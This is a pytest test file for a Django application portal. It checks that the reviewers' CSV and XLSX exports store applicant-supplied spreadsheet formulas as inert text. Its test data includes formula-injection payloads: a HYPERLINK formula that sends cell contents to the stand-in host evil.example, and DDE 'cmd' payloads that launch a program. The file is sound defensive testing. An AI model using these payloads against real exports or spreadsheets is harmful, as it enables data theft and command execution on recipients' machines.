"""A hostile application reaches the reviewers' export as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = {
    "full_name": FORMULA,
    "organisation": "+cmd|' /C calc'!A0",
    "motivation": "-2+3+cmd|' /C calc'!A0",
    "country_of_origin": "\uff20SUM(A1)",
}
COLUMNS = {
    "Full name": "full_name",
    "Organisation": "organisation",
    "Motivation": "motivation",
    "Country of origin": "country_of_origin",
}


@pytest.fixture
def hostile_application(open_call, country, theme):
    """An anonymous applicant sends formulas through the public form."""
    response = Client().post(
        open_call.url,
        {
            **HOSTILE,
            "email": "mallory@example.org",
            "country_of_residence": country.pk,
            "applicant_type": "organisation",
            "education": "MA",
            "current_position": "Analyst",
            "thematic_knowledge": [theme.pk],
            "thematic_description": "Housing.",
            "languages": ["en"],
            "migrant_background": "on",
            "consent": "on",
        },
    )
    assert response.status_code == 302
    assert Application.objects.get().full_name == FORMULA


@pytest.fixture
def reviewer_client(client, db):
    user = User.objects.create_user("reviewer", "reviewer@example.org", "pw-rev-1")
    user.groups.add(Group.objects.get(name="Application reviewers"))
    client.force_login(user)
    return client


def export(client, export_format):
    response = client.get(reverse("applications:index"), {"export": export_format})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    response.close()
    return body


def test_csv_export_writes_the_formulas_as_text(reviewer_client, hostile_application):
    text = export(reviewer_client, "csv").decode()
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["Full name"] == "'" + FORMULA
    for column, field in COLUMNS.items():
        assert row[column] == "'" + HOSTILE[field]
    assert row["E-mail"] == "mallory@example.org"


def test_xlsx_export_writes_the_formulas_as_text(reviewer_client, hostile_application):
    body = export(reviewer_client, "xlsx")
    header, row = load_workbook(io.BytesIO(body)).active.iter_rows()
    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
    assert cells["Full name"].value == "'" + FORMULA
    for column, field in COLUMNS.items():
        assert cells[column].data_type == "s"
        assert cells[column].value == "'" + HOSTILE[field]
    assert cells["E-mail"].value == "mallory@example.org"
